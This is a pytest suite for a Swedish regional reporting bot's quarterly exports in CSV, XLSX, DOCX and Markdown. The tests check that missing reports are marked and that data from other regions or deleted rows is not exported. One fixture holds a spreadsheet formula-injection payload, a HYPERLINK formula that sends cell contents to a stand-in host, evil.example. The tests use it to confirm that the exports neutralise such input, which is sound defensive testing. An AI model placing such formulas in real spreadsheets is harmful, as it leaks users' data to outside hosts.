"""Exports: every format from one model, config order, missing marked, injection neutralised, no leaks."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from docx import Document
from openpyxl import load_workbook
from reporting_org import make_org
from sqlalchemy import update

from bot.db import Database
from bot.quarter_report import load_quarter_report
from bot.stores.analysis import complete, create_draft
from reminders.export import FORMATS, build_report, export_filename
from reminders.periods import Quarter
from reminders.tables import StatusUpdate
from reminders.updates import StatusInput, Submitter, record_update

Q1 = Quarter(2025, 1)
BO = Submitter("U0HSF1", "Bo Berg", "slack")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'


@pytest.fixture
def seeded(db: Database) -> Database:
    org_id = make_org().organisation.id
    record_update(
        db, org_id, "hsf", "2025-Q1", StatusInput("not_started", done="Första utkast"), BO
    )
    record_update(
        db,
        org_id,
        "hsf",
        "2025-Q1",
        StatusInput(
            "some_deviation", done=EVIL, next_steps="+46 70 123", support_needed="@strateg"
        ),
        BO,
        now=datetime(2025, 4, 10, 12, 0, tzinfo=UTC),
    )
    # another region's row and a deleted row must never appear
    record_update(
        db,
        "other-region",
        "rsf",
        "2025-Q1",
        StatusInput("on_track", done="HEMLIGT annan region"),
        BO,
    )
    record_update(db, org_id, "kultur", "2025-Q1", StatusInput("on_track", done="RADERAD rad"), BO)
    with db.session() as session:
        session.execute(
            update(StatusUpdate)
            .where(StatusUpdate.administration_id == "kultur")
            .values(deleted_at=datetime(2025, 4, 11, tzinfo=UTC))
        )
    return db


def render(db: Database, fmt: str, lang: str = "sv") -> bytes:
    report = build_report(db, make_org(), Q1, lang=lang, now=datetime(2025, 4, 23, tzinfo=UTC))
    return FORMATS[fmt].render(report)


def test_report_model_rows_in_config_order_with_missing(seeded: Database) -> None:
    report = build_report(seeded, make_org(), Q1)
    assert [r.administration_id for r in report.rows] == ["hsf", "rsf", "kultur"]
    hsf, rsf, kultur = report.rows
    assert (hsf.status, hsf.revisions, hsf.submitted_by) == ("some_deviation", 2, "Bo Berg")
    assert (
        hsf.submitted_at is not None and hsf.submitted_at.strftime("%H:%M") == "14:00"
    )  # Stockholm
    assert rsf.missing and kultur.missing
    assert dict(report.counts)["Vissa avvikelser"] == 1
    assert dict(report.counts)["Ej rapporterat"] == 2
    assert export_filename(report, "xlsx") == "jambot-region-test-2025-Q1.xlsx"


def test_csv_has_bom_header_and_neutralised_formulas(seeded: Database) -> None:
    raw = render(seeded, "csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    # Issue 15: semicolons in Swedish, the separator Excel uses with Swedish regional settings.
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:4] == ["Förvaltnings-id", "Förvaltning", "Utvecklingsområde", "Läge"]
    assert [r[0] for r in rows[1:]] == ["hsf", "rsf", "kultur"]
    hsf = rows[1]
    assert hsf[3] == "Vissa avvikelser"
    assert hsf[4] == "'" + EVIL and hsf[5] == "'+46 70 123" and hsf[6] == "'@strateg"
    assert rows[2][3] == "Ej rapporterat" and rows[2][9] == "0"
    assert b"HEMLIGT" not in raw and b"RADERAD" not in raw


def test_xlsx_table_chart_frozen_header_and_guard(seeded: Database) -> None:
    # Issue 15: summary sheet first, ids last, staff text stored as text cells (no visible
    # apostrophe, never a formula), submission times as dates.
    book = load_workbook(io.BytesIO(render(seeded, "xlsx")))
    assert book.sheetnames == ["Sammanställning", "Rapporter"]
    sheet = book["Rapporter"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Förvaltning", "Utvecklingsområde", "Läge"]
    assert header[-1] == "Förvaltnings-id"
    assert [sheet.cell(row=r, column=len(header)).value for r in (2, 3, 4)] == [
        "hsf",
        "rsf",
        "kultur",
    ]
    done = sheet.cell(row=2, column=header.index("Gjort under kvartalet") + 1)
    assert done.value == EVIL and done.data_type == "s" and done.quotePrefix  # text, not a formula
    submitted = sheet.cell(row=2, column=header.index("Inskickad") + 1).value
    assert submitted == datetime(2025, 4, 10, 14, 0)  # a date, in Stockholm time
    assert sheet.cell(row=3, column=3).value == "Ej rapporterat"
    assert sheet.cell(row=3, column=1).fill.fgColor.rgb.endswith("FDE9D9")
    assert list(sheet.tables) == ["Kvartalsrapport"]
    summary = book["Sammanställning"]
    counts = {
        row[0].value: row[1].value
        for row in summary.iter_rows(max_col=2)
        if isinstance(row[1].value, int)
    }
    assert counts["Vissa avvikelser"] == 1 and counts["Ej rapporterat"] == 2
    assert len(summary._charts) == 2  # this quarter and the previous one
    values = [c.value for ws in book for row in ws.iter_rows() for c in row]
    assert not any(isinstance(v, str) and ("HEMLIGT" in v or "RADERAD" in v) for v in values)


def test_docx_summary_for_the_board(seeded: Database) -> None:
    # Issue 15 made the docx a board paper: the quarter in words, Sammanfattning and
    # Bedömning first, missing reports named in the summary rather than on the last page.
    doc = Document(io.BytesIO(render(seeded, "docx")))
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith(("Heading", "Title"))]
    assert headings[0] == "Kvartalsrapportering – Jämställdhetsintegrering"
    assert headings[1:] == [
        "Sammanfattning",
        "Stödbehov",
        "Bedömning",
        "Förslag till beslut",
        "Skickas till",
        "Förvaltningarnas rapporter",
        "Hälso- och sjukvårdsförvaltningen",
        "Regionstyrelseförvaltningen",
        "Kulturförvaltningen",
    ]
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Kvartal 1 2025 (januari–mars)" in text
    assert (
        "Läge: Vissa avvikelser" in text and EVIL in text
    )  # Word runs no formulas: shown as typed
    assert "Rapport saknas från Regionstyrelseförvaltningen och Kulturförvaltningen." in text
    counts = {row.cells[0].text: row.cells[1].text for row in doc.tables[0].rows}
    assert counts["Vissa avvikelser"] == "1" and counts["Ej rapporterat"] == "2"
    assert "HEMLIGT" not in text and "RADERAD" not in text


def test_markdown_in_english(seeded: Database) -> None:
    text = render(seeded, "md", lang="en").decode("utf-8")
    assert text.startswith("# Gender mainstreaming quarterly report 2025-Q1")
    assert "| Some deviation | 1 |" in text and "| Not reported | 2 |" in text
    assert text.rstrip().endswith("- Regionstyrelseförvaltningen\n- Kulturförvaltningen")
    assert "HEMLIGT" not in text


def test_all_reported_says_so(db: Database) -> None:
    org = make_org()
    for adm in org.administrations:
        record_update(db, org.organisation.id, adm.id, "2025-Q1", StatusInput("on_track"), BO)
    assert "Alla förvaltningar har rapporterat." in render(db, "md").decode()


def complete_analysis(db: Database, administration_id: str | None, at: datetime) -> None:
    """One guided analysis walked to its end through the real analysis store."""
    org = make_org()
    draft = create_draft(db, org.organisation.id, "k:" + str(administration_id), "3r", "sv",
                         "arendet", now=at)  # fmt: skip
    done = complete(db, org.organisation.id, "k:" + str(administration_id), draft.id,
                    administration_id, org.tz, now=at)  # fmt: skip
    assert done is not None and done.completed


@pytest.fixture
def analysed(seeded: Database) -> Database:
    """hsf completed two analyses in Q1, kultur one, rsf none; one more has no administration,
    one of hsf's falls in Q2 (1 April, Stockholm time) and one belongs to another region."""
    for adm, at in (
        ("hsf", datetime(2025, 2, 3, 9, tzinfo=UTC)),
        ("hsf", datetime(2025, 3, 31, 21, 0, tzinfo=UTC)),  # 23:00 in Stockholm: still Q1
        ("kultur", datetime(2025, 1, 15, 9, tzinfo=UTC)),
        (None, datetime(2025, 3, 3, 9, tzinfo=UTC)),
        ("hsf", datetime(2025, 3, 31, 22, 30, tzinfo=UTC)),  # 00:30 on 1 April: Q2
    ):
        complete_analysis(seeded, adm, at)
    other = create_draft(seeded, "other-region", "k:x", "3r", "sv", "arendet")
    complete(seeded, "other-region", "k:x", other.id, "rsf", make_org().tz,
             now=datetime(2025, 2, 3, tzinfo=UTC))  # fmt: skip
    return seeded


def render_loaded(db: Database, fmt: str, lang: str = "sv") -> bytes:
    """The export as the CLI and the chat load it: with the analysis counts from the store."""
    report = load_quarter_report(db, make_org(), Q1, lang, datetime(2025, 4, 23, tzinfo=UTC))
    return FORMATS[fmt].render(report)


def test_completed_analyses_in_the_model(analysed: Database) -> None:
    report = load_quarter_report(analysed, make_org(), Q1)
    assert {r.administration_id: r.analyses for r in report.rows} == {
        "hsf": 2,
        "rsf": 0,
        "kultur": 1,
    }
    assert report.analyses_unassigned == 1 and report.analyses_total == 4
    # build_report without counts (existing callers) reports 0, never fails
    assert all(r.analyses == 0 for r in build_report(analysed, make_org(), Q1).rows)


def test_csv_appends_completed_analyses_last(analysed: Database) -> None:
    rows = list(csv.reader(io.StringIO(render_loaded(analysed, "csv").decode("utf-8-sig")),
                           delimiter=";"))  # fmt: skip
    assert rows[0][-1] == "Genomförda jämställdhetsanalyser" and len(rows[0]) == 11
    assert rows[0][9] == "Antal versioner"  # the earlier columns keep their positions
    assert {r[0]: r[10] for r in rows[1:]} == {"hsf": "2", "rsf": "0", "kultur": "1"}
    english = csv.reader(io.StringIO(render_loaded(analysed, "csv", "en").decode("utf-8-sig")))
    assert next(english)[-1] == "Completed gender equality analyses"


def test_xlsx_has_completed_analyses_column_and_total(analysed: Database) -> None:
    book = load_workbook(io.BytesIO(render_loaded(analysed, "xlsx")))
    sheet = book["Rapporter"]
    header = [c.value for c in sheet[1]]
    assert header[-1] == "Förvaltnings-id"  # ids stay last
    column = header.index("Genomförda jämställdhetsanalyser") + 1
    assert [sheet.cell(row=r, column=column).value for r in (2, 3, 4)] == [2, 0, 1]
    assert (
        sheet.tables["Kvartalsrapport"].ref
        == f"A1:{sheet.cell(row=4, column=len(header)).coordinate}"
    )
    summary = [c.value for row in book["Sammanställning"].iter_rows() for c in row if c.value]
    assert any(
        isinstance(v, str)
        and "Genomförda jämställdhetsanalyser under kvartalet: 4, varav 1 utan förvaltning." in v
        for v in summary
    )


def test_docx_has_completed_analyses_per_administration_and_in_summary(
    analysed: Database,
) -> None:
    doc = Document(io.BytesIO(render_loaded(analysed, "docx")))
    texts = [p.text for p in doc.paragraphs]
    assert "Genomförda jämställdhetsanalyser under kvartalet: 4, varav 1 utan förvaltning." in (
        "\n".join(texts)
    )
    sections = {}
    for name in ("Hälso- och sjukvårdsförvaltningen", "Regionstyrelseförvaltningen",
                 "Kulturförvaltningen"):  # fmt: skip
        start = texts.index(name)
        following = texts[start + 1 :]
        sections[name] = next(x for x in following if x.startswith("Genomförda"))
    assert sections == {
        "Hälso- och sjukvårdsförvaltningen": "Genomförda jämställdhetsanalyser: 2",
        "Regionstyrelseförvaltningen": "Genomförda jämställdhetsanalyser: 0",  # not reported, none
        "Kulturförvaltningen": "Genomförda jämställdhetsanalyser: 1",
    }


def test_markdown_has_completed_analyses_in_english(analysed: Database) -> None:
    text = render_loaded(analysed, "md", lang="en").decode("utf-8")
    assert (
        "Gender equality analyses completed this quarter: 4, 1 of them without an administration."
        in text
    )
    sections = text.split("\n### ")[1:]
    counts = {s.split("\n")[0]: s.split("**Completed gender equality analyses:** ")[1].split("\n")[0]
              for s in sections if "**Completed gender equality analyses:**" in s}  # fmt: skip
    assert counts == {
        "Hälso- och sjukvårdsförvaltningen": "2",
        "Regionstyrelseförvaltningen": "0",
        "Kulturförvaltningen": "1",
    }


def test_quarter_without_analyses_says_zero(seeded: Database) -> None:
    text = render_loaded(seeded, "md").decode("utf-8")
    assert "Genomförda jämställdhetsanalyser under kvartalet: 0." in text
    assert text.count("**Genomförda jämställdhetsanalyser:** 0") == 3
